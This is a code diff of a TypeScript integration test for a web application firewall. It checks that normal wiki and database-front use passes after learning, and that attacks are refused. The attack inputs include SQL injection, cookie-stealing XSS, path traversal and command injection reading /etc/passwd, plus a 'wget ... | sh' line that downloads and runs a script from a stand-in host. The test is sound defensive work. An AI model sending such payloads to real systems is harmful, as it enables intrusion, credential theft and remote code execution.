@@ -1,18 +1,27 @@
 import assert from 'node:assert/strict'
 import { after, before, type TestContext, test } from 'node:test'
-import { type Browser, chromium, type Page } from 'playwright-core'
+import type { Browser, Page } from 'playwright-core'
+import { cleanUpProcesses } from './support/application-process.ts'
+import { startBrowser } from './support/browser.ts'
 import { eventually } from './support/calls.ts'
 import { cleanUp } from './support/clean-up.ts'
-import { adminer, cleanUpPhp, dokuwiki } from './support/php-applications.ts'
+import { adminer, dokuwiki } from './support/php-applications.ts'
 import { Management, ProxyProcess } from './support/proxy.ts'
 import { Server } from './support/server.ts'
 import { visitDatabase } from './support/visits/database-visit.ts'
-import { databaseWork, learntArticles, newArticles } from './support/visits/ordinary-words.ts'
+import {
+  databaseWork,
+  learntArticles,
+  newArticles,
+  otherArticles,
+  technicalArticles,
+} from './support/visits/ordinary-words.ts'
 import { visitWiki } from './support/visits/wiki-visit.ts'
 
 /*
  * People use a wiki and a database front through the firewall, writing about SQL, shells and markup: first while the service only
- * logs. The proposed exceptions are accepted, the service blocks, and others do the same sort of work. Attacks are still refused.
+ * logs and learns. The proposed exceptions, profiles and second opinions are accepted, the service blocks, and others do the same sort of
+ * work. Attacks are still refused.
  */
 
 let server: Server
@@ -22,17 +31,16 @@ before(async () => {
   server = await Server.start()
   await ProxyProcess.start(server)
   management = await Management.connect(server)
-  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: browserFlags })
+  browser = await startBrowser(browserFlags)
 })
 after(async () => {
   await browser?.close()
-  await cleanUpPhp()
+  await cleanUpProcesses()
   await cleanUp()
 })
 
 /** Nothing but what the pages ask for. */
 const browserFlags = [
-  '--no-sandbox',
   '--disable-gpu',
   '--disable-quic',
   '--no-first-run',
@@ -47,6 +55,7 @@ interface Figures {
   requests: number
   ofPages: number
   refused: number
+  refusedPages: number
 }
 
 type Visit = (page: Page, origin: string) => Promise<void>
@@ -58,14 +67,17 @@ async function visitAs(address: string, port: number, visit: Visit, figures: Fig
   const page = await context.newPage()
   page.on('response', (response) => {
     figures.requests++
-    if (['document', 'xhr', 'fetch'].includes(response.request().resourceType())) figures.ofPages++
-    if (response.status() === 403) figures.refused++
+    const isPage = ['document', 'xhr', 'fetch'].includes(response.request().resourceType())
+    const isRefused = response.status() === 403
+    figures.ofPages += Number(isPage)
+    figures.refused += Number(isRefused)
+    figures.refusedPages += Number(isPage && isRefused)
   })
   await visit(page, `http://application.localhost:${port}`)
   await context.close()
 }
 
-const noFigures = (): Figures => ({ requests: 0, ofPages: 0, refused: 0 })
+const noFigures = (): Figures => ({ requests: 0, ofPages: 0, refused: 0, refusedPages: 0 })
 
 type Entry = Readonly<Record<string, string>>
 
@@ -132,6 +144,7 @@ async function protect(name: string, port: number): Promise<number> {
   await management.call('PUT', `services/${name}/exception-profiling`, {
     'exception-profiling-level': 'High',
   })
+  await management.call('PUT', `services/${name}/adaptive-profiling`, { status: 'On' })
   await management.untilFares(`services/${name}`, 'Up')
   return front
 }
@@ -141,7 +154,7 @@ async function learnAndBlock(
   t: TestContext,
   name: string,
   port: number,
-  { learnt, fresh }: { readonly learnt: readonly Visit[]; readonly fresh: Visit },
+  { learnt, fresh }: { readonly learnt: readonly Visit[]; readonly fresh: readonly Visit[] },
 ): Promise<{ readonly figures: Figures; readonly front: number }> {
   const front = await protect(name, port)
   const before = noFigures()
@@ -150,37 +163,79 @@ async function learnAndBlock(
   }
   const would = await judged(name)
   const proposed = await proposals(name)
-  t.diagnostic(`${name} before: ${told({ ...before, refused: would })}; proposed: ${proposed.length}`)
+  t.diagnostic(
+    `${name} before: ${told({ ...before, refused: would, refusedPages: would })}; proposed: ${proposed.length}`,
+  )
   assert.equal(before.refused, 0, 'nothing is refused while it is learnt')
   assert.ok(proposed.length > 0)
   for (const { id } of proposed) {
     await management.call('POST', `services/${name}/rule-exception-proposals/${id}`, {})
   }
+  await acceptProfiles(t, name)
+  await management.call('PUT', `services/${name}/website-profile`, { mode: 'Active' })
   await management.call('PUT', `services/${name}/basic-security`, { mode: 'Active' })
   await management.untilFares(`services/${name}`, 'Up')
   const figures = noFigures()
-  await visitAs('198.51.100.9', front, fresh, figures)
+  for (const [index, visit] of fresh.entries()) {
+    await visitAs(`198.51.100.${index + 9}`, front, visit, figures)
+  }
   t.diagnostic(`${name} after: ${told(figures)}`)
   return { figures, front }
 }
 
-function told({ requests, ofPages, refused }: Figures): string {
-  const share = (of: number) => `${((100 * refused) / of).toFixed(2)} %`
-  return `${refused} refused of ${requests} requests (${share(requests)}), ${ofPages} for pages (${share(ofPages)})`
+/** Accepts the profiles for which there is enough evidence, and every second opinion. */
+async function acceptProfiles(t: TestContext, name: string): Promise<void> {
+  const proposals = `services/${name}/profile-proposals`
+  const all = await eventually('proposed profiles', async () => {
+    const { data = {} } = await management.call('GET', proposals)
+    const found = Object.values(data as Record<string, ProfileProposal>)
+    return found.some(({ evidence }) => evidence === 'Enough') ? found : undefined
+  })
+  await management.call('POST', proposals, { 'second-opinions': 'Yes' })
+  const written = all.flatMap((one) => one['second-opinions'].map(({ parameter }) => parameter))
+  t.diagnostic(
+    `${name}: ${all.length} URLs were learnt; people write into ${[...new Set(written)].join(', ')}`,
+  )
+}
+
+interface ProfileProposal {
+  readonly evidence: string
+  readonly 'second-opinions': readonly { readonly parameter: string }[]
+}
+
+function told({ requests, ofPages, refused, refusedPages }: Figures): string {
+  const share = (part: number, of: number) => `${part} of ${of} (${((100 * part) / of).toFixed(2)} %)`
+  return `refused were ${share(refused, requests)} requests, ${share(refusedPages, ofPages)} for pages and data`
 }
 
 test('a wiki is used without hindrance after others were learnt from, and attacks on it are refused', async (t) => {
   const { figures, front } = await learnAndBlock(t, 'wiki', await dokuwiki(), {
     learnt: learntArticles.map((articles) => (page, origin) => visitWiki(page, origin, articles)),
-    fresh: (page, origin) => visitWiki(page, origin, newArticles),
+    fresh: [newArticles, otherArticles].map(
+      (articles): Visit =>
+        (page, origin) =>
+          visitWiki(page, origin, articles),
+    ),
   })
   assert.ok(figures.requests > 300)
   assert.ok(figures.refused < figures.requests / 100)
+  assert.ok(figures.refusedPages < figures.ofPages / 100)
+  const technical = noFigures()
+  await visitAs(
+    '198.51.100.20',
+    front,
+    (page, origin) => visitWiki(page, origin, technicalArticles),
+    technical,
+  )
+  t.diagnostic(`wiki, about commands and statements alone: ${told(technical)}`)
+  assert.ok(technical.refusedPages < technical.ofPages / 10)
   await refused(front, [
     "/doku.php?id=start&rev=1'%20UNION%20SELECT%20password%20FROM%20users--%20-",
     '/doku.php?id=<script>alert(document.cookie)</script>',
     '/lib/exe/fetch.php?media=../../../../etc/passwd',
     '/doku.php?id=start&do=;cat%20/etc/passwd',
+    "/doku.php?do=search&q=1'%20UNION%20SELECT%20password%20FROM%20users--%20-",
+    '/doku.php?do=search&q=please%20tell%20me;%20wget%20http://192.0.2.66/x.sh%20-O-|sh',
   ])
 })
 
@@ -192,10 +247,11 @@ test('so is a front of databases, where people type SQL', async (t) => {
   }
   const { figures, front } = await learnAndBlock(t, 'tables', port, {
     learnt: ['lamps', 'desks', 'beds'].map((table) => visit(table, false)),
-    fresh: visit('chairs', true),
+    fresh: [visit('chairs', true)],
   })
   assert.ok(figures.requests > 50)
   assert.ok(figures.refused < figures.requests / 100)
+  assert.ok(figures.refusedPages < figures.ofPages / 100)
   await refused(front, [
     '/?sqlite=&file=<script>alert(1)</script>',
     '/?username=;wget%20http://192.0.2.66/x.sh%20-O-|sh',
